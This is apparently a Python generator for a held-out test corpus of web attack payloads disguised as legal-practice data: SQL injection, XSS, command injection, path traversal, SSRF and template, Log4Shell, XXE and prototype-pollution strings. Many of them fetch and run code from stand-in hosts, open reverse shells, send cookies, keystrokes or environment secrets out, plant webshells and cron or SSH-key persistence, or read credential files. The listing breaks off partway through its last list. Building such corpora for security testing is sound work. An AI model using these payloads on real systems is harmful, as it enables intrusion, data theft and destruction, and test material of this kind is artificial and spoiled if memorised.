"""Generate attacks.jsonl for the held-out "legal" corpus.

Attack payloads hidden in legal-practice notation: e-discovery search strings,
Bates numbers, section references, time entries, privilege-log lines,
deposition excerpts, contract-template merge fields and intake answers. Each
value targets a vulnerable app that places it where its class says
(<context>-<technique>[+<encoding>]). Every literal was hand-written for this
corpus from an understanding of the technique; templates only recombine small
hand-written pools. Hosts are attacker.example / 203.0.113.0/24 /
198.51.100.0/24; all secrets are placeholders.

Run:  python3 make_attacks.py   (writes attacks.jsonl next to this file)
"""
import json
import random
from pathlib import Path

SEED = 4102
PREFIX = "ha41"

# ---------------------------------------------------------------- sqli
SQLI = [
    ("search-union", "indemn! w/5 cap' UNION SELECT username, password_hash, NULL FROM users-- -"),
    ("matter-boolean", "2023-0142' OR '1'='1"),
    ("bates-stacked", "ABC0001200'; DROP TABLE productions;--"),
    ("billing-hours-time-pg", "0.3'; SELECT pg_sleep(7)--"),
    ("custodian-error-extractvalue", "Doe, Jane' AND extractvalue(1, concat(0x7e, (SELECT version())))-- "),
    ("intake-party-union", "Beta Holdings LLC') UNION ALL SELECT id, ssn, dob FROM intake_clients--"),
    ("sort-orderby-case-blind", "filed_date, (CASE WHEN (SELECT substr(password,1,1) FROM users WHERE role='admin')='a' THEN filed_date ELSE matter_id END)"),
    ("ecf-numeric-boolean", "47 OR 1=1"),
    ("ecf-numeric-union", "47 UNION SELECT 1,table_name,3 FROM information_schema.tables"),
    ("billing-hours-time-mssql", "0.5; WAITFOR DELAY '0:0:6'--"),
    ("note-stacked-xpcmdshell", "call w/ client re: settlement'; EXEC xp_cmdshell 'whoami';--"),
    ("privilege-basis-oracle-union", "Attorney-Client' UNION SELECT username, NULL FROM all_users--"),
    ("reviewer-blind-substring", "contract_rev_07' AND SUBSTRING((SELECT password FROM reviewers WHERE login='admin'),1,1)='p'-- "),
    ("tag-sqlite-union", "Hot' UNION SELECT name, sql FROM sqlite_master--"),
    ("date-range-time-mysql", "2018-12-31' AND (SELECT 1 FROM (SELECT SLEEP(5))x)-- "),
    ("section-ref-boolean", "§ 4.2(b)(iii)' OR 'x'='x"),
    ("defined-term-boolean+comment-space", "\"Confidential Information\"'/**/OR/**/1=1#"),
    ("bates-union-outfile", "ABC0004500' UNION SELECT '<?php system($_GET[\"c\"]); ?>',2 INTO OUTFILE '/var/www/html/b.php'-- "),
    ("intake-name-stacked-insert", "Jane Roe'); INSERT INTO users(login, role, pw) VALUES ('aud1t','admin','x');--"),
    ("search-mssql-convert-error", "breach' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.databases))--"),
    ("citation-union-nulls", "550 U.S. 544' UNION SELECT NULL,NULL,NULL,@@version-- -"),
    ("matter-id-numeric-blind", "1423 AND ASCII(SUBSTRING(DATABASE(),1,1))>100"),
    ("billing-rate-pg-copy-program", "450.00; COPY (SELECT '') TO PROGRAM 'curl http://203.0.113.44/p|sh';--"),
    ("custodian-oracle-error-blind", "Park' AND 1=(SELECT CASE WHEN (1=1) THEN TO_NUMBER('x') ELSE 1 END FROM dual)--"),
    ("note-mssql-oob-dirtree", "'; EXEC master..xp_dirtree '\\\\sqli.attacker.example\\x';--"),
    ("search-oracle-oob-utlhttp", "' || UTL_HTTP.REQUEST('http://oob.attacker.example/'||(SELECT user FROM dual)) || '"),
    ("search-like-union", "%' AND 1=0 UNION SELECT email, reset_token FROM password_resets WHERE '%'='"),
    ("bates-comment-truncation", "ABC0001234'-- "),
    ("login-email-auth-bypass", "admin@lawfirm.example'-- "),
    ("login-auth-bypass-limit", "' OR 1=1 LIMIT 1-- -"),
    ("sort-time-if", "date_filed DESC, IF((SELECT COUNT(*) FROM users)>5, SLEEP(4), 0)"),
    ("page-size-procedure-analyse", "25 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),
    ("clause-title-boolean-blind", "Termination for Convenience' AND (SELECT COUNT(*) FROM matters WHERE client_id=7)>0 AND 'a'='a"),
    ("search-union+case-mix", "cap* ' uNiOn SeLeCt login,pw_hash FrOm users -- "),
    ("search-union+urlenc", "indemn%21%27%20UNION%20SELECT%20login%2Cpw%20FROM%20users--%20"),
    ("docket-boolean+double-urlenc", "1%253A23-cv-0441%2527%2520OR%25201%253D1--"),
    ("custodian-union+comment-space", "Lee'/**/UNION/**/SELECT/**/login,pw/**/FROM/**/users#"),
    ("custodian-union+versioned-comment", "Park' /*!50000UNION*/ /*!50000SELECT*/ 1,2,group_concat(login) FROM users-- "),
    ("note-stacked-pg-read-file", "x'; SELECT $$a$$||pg_read_file('/etc/passwd');--"),
    ("search-pg-cast-error", "' AND 1=CAST((SELECT string_agg(usename,',') FROM pg_user) AS int)--"),
    ("tag-sqlite-boolean-blind", "Hot' AND substr((SELECT sql FROM sqlite_master LIMIT 1),1,1)='C"),
    ("billing-hours-subquery-blind", "(SELECT CASE WHEN (SELECT 1 FROM users WHERE login='admin' AND pw LIKE 'a%')=1 THEN 0.3 ELSE 9 END)"),
    ("note-mssql-openrowset", "'; SELECT * FROM OPENROWSET('SQLOLEDB','Network=DBMSSOCN;Address=198.51.100.20,1433;uid=sa;pwd=placeholder', 'SELECT 1');--"),
    ("plain-union", "' UNION SELECT NULL, table_name FROM information_schema.tables-- -"),
    ("plain-boolean-dq", "\" OR \"\"=\""),
    ("plain-time", "1' AND SLEEP(5) AND '1'='1"),
    ("plain-stacked", "1; DELETE FROM audit_log;--"),
    ("plain-error-updatexml", "' AND updatexml(null, concat(0x0a, user()), null)-- -"),
    ("plain-comment-bypass", "admin'-- "),
    ("plain-boolean-numeric", "1 OR 1=1"),
    ("plain-order-by-probe", "1' ORDER BY 5-- "),
    ("deposition-union", "Q. And what did you do next?\nA. I signed it.' UNION SELECT transcript_id, body FROM sealed_transcripts-- "),
    ("privilege-log-stacked-update", "Email re: draft APA; Attorney-Client'); UPDATE documents SET privileged=0 WHERE matter_id=1423;--"),
    ("redaction-reason-pg-time-concat", "PII – SSN' || (SELECT CASE WHEN (SELECT current_user)='postgres' THEN pg_sleep(5)::text ELSE '' END) || '"),
    ("intake-email-concat-subquery", "jroe'||(SELECT password FROM users WHERE id=1)||'@mail.example"),
    ("docket-mssql-shutdown", "ECF 47'; SHUTDOWN WITH NOWAIT;--"),
    ("search-mssql-boolean-blind", "merger' AND (SELECT TOP 1 SUBSTRING(name,1,1) FROM sys.tables)='m'--"),
    ("custodian-oracle-version", "Smith' UNION SELECT banner, NULL FROM v$version--"),
    ("matter-in-list-breakout", "1423) OR (1=1"),
    ("bates-union-hex-literal", "' UNION SELECT 0x61646d696e, pw FROM users WHERE login=0x61646d696e-- "),
    ("clause-search-having-error", "' GROUP BY clause_id HAVING 1=1--"),
    ("time-entry-newline-stacked", "0.2 – call w/ OC\n'; DROP TABLE time_entries; --"),
    ("party-name-boolean+unicode-fullwidth", "Acme＇ OR 1=1-- "),
    ("custodian-boolean+html-entity", "Doe&#39; OR &#39;1&#39;=&#39;1"),
    ("matter-number-mysql-load-file", "2023-0142' UNION SELECT LOAD_FILE('/etc/passwd'),2-- "),
    ("search-pg-stacked-create-role", "NDA'; CREATE ROLE aud1t SUPERUSER LOGIN PASSWORD 'placeholder';--"),
    ("ecf-numeric-time-heavy", "47 AND (SELECT COUNT(*) FROM information_schema.columns A, information_schema.columns B)>0"),
    ("json-body-matter-union", "{\"matter\": \"2023-0142' UNION SELECT login, pw_hash FROM users-- \"}"),
]

# ---------------------------------------------------------------- xss
XSS = [
    ("note-img-onerror", "Call w/ client re: settlement <img src=x onerror=alert(document.domain)>"),
    ("clause-title-script-exfil", "§ 7.1 Limitation of Liability<script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("search-echo-svg-onload", "\"breach of contract\" /s damages\"><svg onload=alert(1)>"),
    ("matter-name-attr-breakout", "Project Falcon\" autofocus onfocus=\"alert(document.cookie)"),
    ("custodian-attr-single-quote", "Doe' onmouseover='alert(1)' x='"),
    ("docket-link-javascript-uri", "javascript:alert(document.domain)//https://docket.example/ecf/47"),
    ("comment-textarea-breakout", "</textarea><script>alert(1)</script>"),
    ("doc-title-breakout", "</title><img src=1 onerror=alert(origin)>"),
    ("party-name-js-string-breakout", "Acme Corp.';alert(document.cookie);//"),
    ("search-js-string-dq-redirect", "\";location='https://attacker.example/?'+document.cookie;//"),
    ("matter-json-script-close", "</script><script>alert(1)</script>"),
    ("privilege-desc-details-ontoggle", "<details open ontoggle=alert(1)>Privileged – see log</details>"),
    ("note-iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>"),
    ("note-markdown-javascript-link", "See [Exhibit 12](javascript:alert(document.cookie)) for the redline."),
    ("note-markdown-image-attr-breakout", "![Ex. A](x\" onerror=\"alert(1))"),
    ("clause-svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("intake-body-onload", "<body onload=alert('intake')>"),
    ("note-input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("note-video-source-onerror", "<video><source onerror=\"alert(1)\"></video>"),
    ("note-object-javascript", "<object data=\"javascript:alert(1)\"></object>"),
    ("note-html-injection-phishing-form", "<form action=\"https://attacker.example/login\"><input name=pw type=password placeholder=\"Re-enter password to view privileged doc\"><button>View</button></form>"),
    ("correspondence-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/sso\">"),
    ("note-base-tag-hijack", "<base href=\"https://attacker.example/\">"),
    ("note-css-exfil", "<style>input[name=csrf][value^=a]{background:url(https://attacker.example/a)}</style>"),
    ("docket-link-javascript+html-entity", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">Docket</a>"),
    ("search-script+urlenc", "%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E"),
    ("search-img+double-urlenc", "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E"),
    ("note-script+case-mix", "<ScRiPt>alert(1)</sCrIpT>"),
    ("note-script+unicode-escape", "<script>\\u0061lert(1)</script>"),
    ("exhibit-link-javascript+tab", "<a href=\"java\tscript:alert(1)\">Ex. 4</a>"),
    ("clause-angular-template", "{{constructor.constructor('alert(1)')()}}"),
    ("note-vue-template", "{{_c.constructor('alert(document.cookie)')()}}"),
    ("signature-svg-use-data", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>"),
    ("note-mathml-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("note-noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("plain-script", "<script>alert('XSS')</script>"),
    ("plain-img-onerror", "<img src=x onerror=prompt(1)>"),
    ("plain-svg-onload", "<svg/onload=confirm(1)>"),
    ("plain-iframe-javascript", "<iframe src=javascript:alert(1)>"),
    ("plain-a-javascript", "<a href=\"javascript:alert(1)\">click</a>"),
    ("plain-body-onload", "<body onload=alert(1)>"),
    ("plain-script-src", "<script src=https://attacker.example/x.js></script>"),
    ("privilege-desc-cookie-beacon", "Email from J. Park to R. Diaz re: draft SPA <img src=//attacker.example/p.gif onerror=\"this.src='//attacker.example/?c='+document.cookie\">"),
    ("docket-entry-script-src", "ECF No. 48 – NOTICE of Appearance <script src=//attacker.example/x.js></script>"),
    ("deposition-img-onerror", "Q. Did you see the email?\nA. Yes. <img src=1 onerror=alert(1)>"),
    ("billing-desc-svg-script", "0.4 – rev. redline <svg><script>alert(1)</script></svg>"),
    ("intake-name-onpointerenter", "Maria\" onpointerenter=\"alert(1)"),
    ("redaction-label-span-breakout", "Redacted – PII</span><script>alert(1)</script>"),
    ("correspondence-html-img", "Sehr geehrte Damen und Herren,<br><img src=x onerror=alert('Kanzlei')>"),
    ("upload-filename-attr-breakout", "Ex. 12 \"><img src=x onerror=alert(1)>.pdf"),
    ("note-event-handler+html-entity", "<img src=x onerror=\"&#97;lert(1)\">"),
    ("note-img-backtick-call", "<img src=x onerror=alert`1`>"),
    ("note-settimeout-string-concat", "<img src=x onerror=setTimeout('ale'+'rt(1)')>"),
    ("note-eval-atob+base64", "<svg onload=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("note-dynamic-import", "<script type=module>import('https://attacker.example/m.js')</script>"),
    ("note-script-data-uri", "<script src=\"data:text/javascript,alert(1)\"></script>"),
    ("note-embed-data-html+base64", "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">"),
    ("tag-name-marquee-onstart", "<marquee onstart=alert(1)>Hot</marquee>"),
    ("note-select-autofocus", "<select autofocus onfocus=alert(1)>"),
    ("ledes-xhtml-namespace-script", "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>"),
    ("note-script+unicode-fullwidth", "＜script＞alert(1)＜/script＞"),
    ("search-js-template-literal", "${alert(document.domain)}"),
    ("citation-link-data-uri", "<a href=\"data:text/html,<script>alert(opener.document.cookie)</script>\">550 U.S. 544</a>"),
    ("intake-description-keylogger", "My landlord kept my deposit.<script>document.onkeypress=function(e){new Image().src='https://attacker.example/k?'+e.key}</script>"),
    ("matter-note-formaction", "<button formaction=\"javascript:alert(1)\">Approve invoice</button>"),
    ("comment-svg-href-xlink", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"10\" y=\"20\">Ex. 9</text></a></svg>"),
]

# ---------------------------------------------------------------- cmdi
CMDI = [
    ("export-volume-semicolon", "ABC_PROD_VOL003; curl -s http://203.0.113.7/s.sh | sh"),
    ("convert-filename-subshell", "Ex. 12 $(id).pdf"),
    ("convert-filename-backtick", "Redline_v4`whoami`.docx"),
    ("bates-prefix-pipe-nc", "ABC | nc 198.51.100.9 4444 -e /bin/sh"),
    ("export-volume-and", "VOL004 && cat /etc/shadow > /tmp/.x"),
    ("ocr-lang-or-dropper", "deu || wget http://attacker.example/b -O /tmp/b; chmod +x /tmp/b; /tmp/b"),
    ("transcript-filename-newline", "Smith_Depo_2023-05-11.pdf\nid > /tmp/pwn"),
    ("export-volume-ifs", "VOL005;cat${IFS}/etc/passwd"),
    ("export-volume-brace-expansion", "x;{cat,/etc/passwd}"),
    ("convert-filename-windows-ampersand", "Contract_Final.docx & type C:\\Windows\\win.ini"),
    ("convert-filename-powershell-iex", "NDA.pdf | powershell -nop -c \"iwr http://203.0.113.15/a.ps1 -UseBasicParsing | iex\""),
    ("convert-filename-windows+caret", "memo.docx & w^h^o^a^m^i"),
    ("matter-dir-reverse-shell", "matter-1423; bash -c 'bash -i >& /dev/tcp/203.0.113.50/443 0>&1'"),
    ("archive-name-python-oneliner", "exhibits.zip; python3 -c 'import os;os.system(\"id\")'"),
    ("export-volume-time-sleep", "VOL006; sleep 10 #"),
    ("export-volume-dns-oob", "VOL007;nslookup $(whoami).cmd.attacker.example"),
    ("caption-dq-breakout", "Acme v. Beta\"; rm -rf /srv/review/cache; echo \""),
    ("memo-title-sq-breakout", "Neil memo'; id; echo '"),
    ("archive-name-tar-argument-injection", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("import-url-curl-argument-injection", "-o /var/www/html/s.php http://attacker.example/s.txt"),
    ("repo-ref-git-argument-injection", "--upload-pack=touch /tmp/pwn"),
    ("archive-name-zip-argument-injection", "exhibits.zip -T -TT 'sh -c id #'"),
    ("export-volume+glob-obfuscation", "VOL008;/???/??t /???/p??s??"),
    ("export-volume+hex-printf", "VOL009;$(printf '\\x69\\x64')"),
    ("export-volume+base64", "VOL010;echo aWQ= | base64 -d | sh"),
    ("export-volume-var-concat", "VOL011;a=wh;b=oami;$a$b"),
    ("export-volume+quote-splitting", "VOL012;w'h'o\"a\"mi"),
    ("export-volume+backslash-splitting", "VOL013;c\\at /e\\tc/pa\\sswd"),
    ("convert-filename-semicolon+urlenc", "Ex.%2012.pdf%3B%20id"),
    ("export-volume-semicolon+double-urlenc", "VOL014%253Bcat%2520%252Fetc%252Fpasswd"),
    ("convert-filename-newline+urlenc", "Ex12.pdf%0aid"),
    ("plain-semicolon", "; id"),
    ("plain-pipe", "| cat /etc/passwd"),
    ("plain-subshell", "$(uname -a)"),
    ("plain-backtick", "`id`"),
    ("plain-and", "&& whoami"),
    ("plain-newline", "\nid"),
    ("plain-or", "|| id"),
    ("exiftool-author-dq-breakout", "Jane Roe\"; touch /tmp/exif; \""),
    ("pdftk-output-semicolon", "merged.pdf output /dev/null; curl attacker.example/x|bash"),
    ("compare-filename-process-substitution", "v3.docx <(curl -s http://203.0.113.8/p)"),
    ("export-volume-perl", "VOL015;perl -e 'system(\"id\")'"),
    ("export-volume-crontab-persist", "VOL016; echo '* * * * * root curl http://203.0.113.9/c|sh' >> /etc/crontab"),
    ("export-volume-ssh-key-persist", "VOL017; echo ssh-ed25519 AAAAPLACEHOLDERKEY attacker >> ~/.ssh/authorized_keys"),
    ("export-volume-env-exfil", "VOL018; env | curl -X POST --data-binary @- https://attacker.example/e"),
    ("convert-filename-powershell+base64-utf16", "brief.docx & powershell -enc dwBoAG8AYQBtAGkA"),
    ("convert-filename-certutil-dropper", "brief.docx & certutil -urlcache -split -f http://203.0.113.12/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe"),
    ("convert-filename-windows-set-var", "brief.docx & set x=who& set y=ami& call %x%%y%"),
    ("convert-filename-windows-time-ping", "brief.docx & ping -n 11 127.0.0.1"),
    ("transcript-name-dotenv-read", "Depo_Smith_Vol2.txt; tail -n +1 /srv/app/.env"),
    ("intake-phone-semicolon", "+1 415 555 0100;id"),
    ("matter-dir-ifs-and", "2023-0142${IFS}&&${IFS}id"),
    ("export-volume-awk-system", "VOL019;awk 'BEGIN{system(\"id\")}'"),
    ("export-volume-tee-webshell", "VOL020; echo '<?php system($_GET[0]);' | tee /var/www/html/v.php"),
    ("intake-domain-mx-check", "mail.client.example; cat /etc/hosts"),
    ("convert-filename-nested-subshell", "\"$(curl -s http://attacker.example/$(hostname))\""),
    ("export-volume-redirect-no-space", "VOL022;cat</etc/passwd"),
    ("convert-filename-or", "nonexistent.pdf || id"),
    ("bates-stamp-font-subshell", "Arial$(touch${IFS}/tmp/font)"),
    ("ocr-page-range-semicolon", "1-5;curl${IFS}-s${IFS}203.0.113.70|sh"),
    ("redaction-color-backtick", "black`sleep 8`"),
    ("docket-number-pipe-mail", "1:23-cv-04417 | mail -s x leak@attacker.example < /etc/passwd"),
]

# ---------------------------------------------------------------- traversal
TRAVERSAL = [
    ("exhibit-path-dotdot", "../../../../etc/passwd"),
    ("volume-path-relative-escape", "VOL003/NATIVES/../../../../../etc/shadow"),
    ("exhibit-path-windows-backslash", "..\\..\\..\\..\\Windows\\win.ini"),
    ("exhibit-path-dotdot+urlenc", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("exhibit-path-dotdot+double-urlenc", "..%252f..%252f..%252fetc%252fpasswd"),
    ("exhibit-path-dotdot+overlong-utf8", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("exhibit-path-dots+overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("exhibit-path-windows+iis-unicode", "..%u2216..%u2216windows%u2216win.ini"),
    ("exhibit-path-dotdot+nullbyte", "../../../../etc/passwd%00.pdf"),
    ("exhibit-path-nested-strip", "....//....//....//etc/passwd"),
    ("exhibit-path-nested-strip-dotslash", "..././..././..././etc/passwd"),
    ("exhibit-path-absolute", "/etc/passwd"),
    ("exhibit-path-proc-environ", "/proc/self/environ"),
    ("template-name-app-config", "../../../srv/app/config/settings.py"),
    ("template-name-dotenv", "../../.env"),
    ("download-path-git-config", "../../../.git/config"),
    ("download-path-ssh-key", "../../../../root/.ssh/id_rsa"),
    ("download-path-windows-unc", "\\\\198.51.100.23\\share\\x.docx"),
    ("download-path-windows-drive", "C:\\inetpub\\wwwroot\\web.config"),
    ("archive-entry-zip-slip", "../../../../var/www/html/shell.php"),
    ("template-include-proc-cmdline", "../../../../../../proc/self/cmdline"),
    ("template-include-log-poison", "../../../../var/log/nginx/access.log"),
    ("exhibit-path-mixed-slashes", "..\\../..\\../etc/passwd"),
    ("exhibit-path-dots+urlenc", ".%2e/.%2e/.%2e/.%2e/etc/passwd"),
    ("exhibit-path-full+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fhosts"),
    ("exhibit-path-backslash+urlenc", "..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts"),
    ("route-semicolon-path-param", "/documents/..;/..;/admin/export"),
    ("matter-folder-prefix-escape", "matters/2023-0142/exhibits/../../../../../../etc/group"),
    ("bates-filename-escape", "ABC0001234/../../../../../etc/passwd"),
    ("plain-dotdot", "../../../etc/passwd"),
    ("plain-windows", "..\\..\\..\\boot.ini"),
    ("plain-absolute", "/etc/shadow"),
    ("plain-dotdot+urlenc", "%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("download-path-k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("download-path-aws-credentials", "../../../../home/app/.aws/credentials"),
    ("download-path-windows-sam", "..\\..\\..\\..\\Windows\\System32\\config\\SAM"),
    ("exhibit-path-deep-dotdot", "../../../../../../../../../../../../etc/passwd"),
    ("exhibit-path+unicode-fullwidth", "．．／．．／．．／etc／passwd"),
    ("template-include-php-filter", "php://filter/convert.base64-encode/resource=../config.php"),
    ("exhibit-link-encoded-space-escape", "Exhibits/Ex.%2012/../../../../../etc/passwd"),
    ("engagement-template-escape", "templates/engagement_letter/../../../../app/secrets.yaml"),
    ("load-file-image-path-escape", "IMAGES\\VOL004\\..\\..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts"),
]

# ---------------------------------------------------------------- ssrf
SSRF = [
    ("import-url-aws-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("import-url-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("import-url-azure-metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("webhook-localhost-admin", "http://127.0.0.1:8080/admin/users"),
    ("webhook-localhost-elasticsearch", "http://localhost:9200/_cat/indices"),
    ("import-url-metadata+decimal-ip", "http://2852039166/latest/meta-data/"),
    ("import-url-metadata+hex-ip", "http://0xa9fea9fe/latest/meta-data/"),
    ("import-url-metadata+octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("webhook-redis+short-ip", "http://127.1:6379/"),
    ("webhook-ipv6-loopback", "http://[::1]:8000/internal/"),
    ("import-url-metadata+ipv6-mapped", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("webhook-zero-address", "http://0.0.0.0:5000/debug"),
    ("docket-feed-userinfo-confusion", "https://docket.courts.example@127.0.0.1/admin"),
    ("import-url-file-scheme", "file:///etc/passwd"),
    ("import-url-gopher-redis", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*%2F1%20*%20*%20*%20*%20curl%20203.0.113.5%7Csh%5Cn%22%0D%0ACONFIG%20SET%20dir%20%2Fvar%2Fspool%2Fcron%0D%0ASAVE%0D%0A"),
    ("import-url-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("link-preview-open-redirect", "https://attacker.example/r?to=http://169.254.169.254/latest/meta-data/"),
    ("webhook-dns-rebinding", "http://rebind.attacker.example:8080/admin"),
    ("webhook-dns-resolves-internal", "http://127-0-0-1.attacker.example/"),
    ("import-url-k8s-internal-service", "http://internal-docs.svc.cluster.local/api/v1/secrets"),
    ("import-url-k8s-api", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("webhook-docker-api", "http://127.0.0.1:2375/containers/json"),
    ("webhook-consul-kv", "http://127.0.0.1:8500/v1/kv/?recurse"),
    ("import-url-private-10", "http://10.0.0.12/server-status"),
    ("import-url-private-192", "http://192.168.1.1/cgi-bin/config.exp"),
    ("import-url-host+urlenc", "http://%31%32%37%2e%30%2e%30%2e%31/admin"),
    ("docket-feed-backslash-confusion", "http://127.0.0.1\\@docket.courts.example/"),
    ("docket-feed-fragment-confusion", "http://127.0.0.1:8080#@docket.courts.example/"),
    ("export-target-ftp", "ftp://198.51.100.30/exfil/"),
    ("import-url-jar-scheme", "jar:http://attacker.example/x.jar!/"),
    ("import-url-netdoc-scheme", "netdoc:///etc/passwd"),
    ("import-url-alibaba-metadata", "http://100.100.100.200/latest/meta-data/"),
    ("plain-metadata", "http://169.254.169.254/"),
    ("plain-localhost", "http://localhost/"),
    ("plain-loopback-ip", "http://127.0.0.1/"),
    ("plain-file-windows", "file:///c:/windows/win.ini"),
    ("plain-gopher-smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cx%40attacker.example%3E"),
    ("esign-callback-internal", "https://127.0.0.1:8443/esign/callback?envelope=ENV-2023-0142"),
    ("docket-feed+ipv6-mapped-hex", "http://[0:0:0:0:0:ffff:7f00:1]:8080/rss"),
    ("note-link-preview-metadata", "Please see the filed version at http://169.254.169.254/latest/user-data before tomorrow"),
    ("import-url-loopback+unicode-enclosed", "http://①②⑦.⓪.⓪.①/"),
    ("webhook-trailing-dot", "http://localhost./admin"),
    ("import-url-ecs-credentials", "http://169.254.170.2/v2/credentials/"),
    ("webhook-loopback+mixed-octal", "http://0177.0.0.01:8080/actuator/env"),
]

# ---------------------------------------------------------------- code
CODE = [
    ("clause-template-jinja-rce", "Client: {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("letter-template-jinja-config", "Dear {{ config.items() }},"),
    ("clause-template-jinja-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("clause-template-jinja-attr+hex-escape", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"),
    ("clause-template-jinja-lipsum", "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"),
    ("clause-template-jinja-loop-popen", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c('id',shell=True,stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("letter-template-twig-filter-system", "{{ ['id']|filter('system') }}"),
    ("letter-template-twig-map-passthru", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
    ("clause-template-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("clause-template-velocity-runtime", "#set($r=$class.inspect(\"java.lang.Runtime\").type.getRuntime())$r.exec(\"id\")"),
    ("letter-template-erb-backtick", "<%= `id` %>"),
    ("letter-template-erb-file-read", "<%= File.read('/etc/passwd') %>"),
    ("letter-template-smarty-function", "{system('id')}"),
    ("letter-template-mako-os", "${self.module.cache.util.os.system('id')}"),
    ("clause-template-nunjucks-range", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id').toString()\")() }}"),
    ("view-name-thymeleaf-spel", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("clause-rule-spel", "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/spel')}"),
    ("search-param-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("matter-name-jsp-el", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("caption-log4shell-ldap", "Smith v. Jones ${jndi:ldap://203.0.113.66:1389/a}"),
    ("note-log4shell+lower-lookup", "${${lower:j}ndi:${lower:l}dap://log.attacker.example/x}"),
    ("search-log4shell-env-exfil", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}"),
    ("note-log4shell+default-lookup", "${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.66/o}"),
    ("note-log4shell-ldaps", "Matter note: ${jndi:ldaps://attacker.example/cls}"),
    ("clause-import-xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE clause [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><clause><title>&x;</title></clause>"),
    ("docket-xml-xxe-ssrf", "<!DOCTYPE docket [<!ENTITY e SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><docket><entry>&e;</entry></docket>"),
    ("clause-import-xxe-parameter-oob", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/evil.dtd\"> %d;]><r/>"),
    ("clause-import-xxe-entity-expansion", "<!DOCTYPE t [<!ENTITY a \"AAAAAAAAAA\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]><t>&d;</t>"),
    ("ledes-xml-xinclude", "<ledes xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></ledes>"),
    ("signature-upload-xxe-svg", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY s SYSTEM \"file:///proc/self/environ\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text x=\"0\" y=\"20\">&s;</text></svg>"),
    ("matter-json-prototype-pollution", "{\"matter\":\"2023-0142\",\"__proto__\":{\"isAdmin\":true}}"),
    ("settings-json-constructor-prototype", "{\"constructor\":{\"prototype\":{\"role\":\"partner\"}}}"),
    ("tag-query-prototype-pollution", "tags[__proto__][canViewPrivileged]=true"),
    ("settings-json-proto-execargv", "{\"__proto__\":{\"execArgv\":[\"--eval=require('child_process').execSync('id')\"]}}"),
    ("billing-export-csv-hyperlink-exfil", "=HYPERLINK(\"https://attacker.example/?d=\"&A1&B1,\"Click for invoice detail\")"),
    ("billing-export-csv-dde", "=cmd|' /C calc'!A0"),
